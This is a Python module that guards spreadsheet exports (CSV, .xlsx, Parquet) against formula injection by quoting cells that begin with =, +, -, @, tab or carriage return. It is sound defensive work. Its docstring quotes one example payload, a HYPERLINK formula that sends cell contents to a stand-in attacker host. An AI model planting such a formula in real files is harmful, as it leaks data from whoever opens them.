"""Spreadsheet-formula neutralisation: one rule for every text cell twinrisk writes.

A spreadsheet (Excel, LibreOffice, Google Sheets) treats a cell that begins with
``=``, ``+``, ``-`` or ``@`` as a formula, and a leading tab or carriage return
can smuggle one past a naive check. A place name such as
``=HYPERLINK("http://evil.example/?"&A1,"click")`` in a scored CSV would run when an
analyst opens the file. Every CSV, .xlsx and Parquet file written by twinrisk (the
batch CLI, the HTTP service's CSV responses) passes its text cells through
:func:`neutralise_formula` or :func:`neutralise_frame`, which prefix such a cell
with a single quote (the OWASP "CSV injection" recommendation): the spreadsheet
then shows the text and never evaluates it.

A cell that is a plain decimal number (``-12.5``, ``+3``, ``1e-3``) is left as it is:
it cannot execute and quoting it would turn a number into text.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any, cast

if TYPE_CHECKING:  # pragma: no cover
    import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralise_formula", "neutralise_frame", "neutralise_series"]

#: first characters that make a spreadsheet cell a formula (or can hide one)
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_DANGEROUS = r"^[=+\-@\t\r]"
_NUMBER_PATTERN = _NUMBER.pattern


def neutralise_formula(value: str) -> str:
    """``value`` made safe to open in a spreadsheet: prefixed with ``'`` if it could
    be read as a formula, unchanged otherwise."""
    if value and value[0] in FORMULA_PREFIXES and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_series(series: pd.Series) -> pd.Series:
    """Vectorised :func:`neutralise_formula` over a Series; non-text values untouched."""
    import pandas as pd

    if series.empty:
        return series
    if not (pd.api.types.is_string_dtype(series.dtype) or series.dtype == object):
        return series
    if series.dtype == object:
        is_text = series.map(lambda v: isinstance(v, str)).astype(bool)
        if not is_text.any():
            return series
        text = series.where(is_text, "").astype(str)
    else:
        is_text = series.notna()
        text = series.fillna("")
    risky = text.str.match(_DANGEROUS) & ~text.str.fullmatch(_NUMBER_PATTERN)
    risky = risky.fillna(False).astype(bool) & is_text
    if not risky.any():
        return series
    out = series.copy()
    out[risky] = "'" + text[risky]
    return out


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with every text cell passed through :func:`neutralise_formula`.

    Column names are text cells too (the header row) and are neutralised the same way.
    """
    out = df.copy(deep=False)
    for i in range(df.shape[1]):
        column = df.iloc[:, i]
        safe = neutralise_series(column)
        if safe is not column:
            out.isetitem(i, cast(Any, safe))
    out.columns = [neutralise_formula(c) if isinstance(c, str) else c for c in df.columns]
    return out
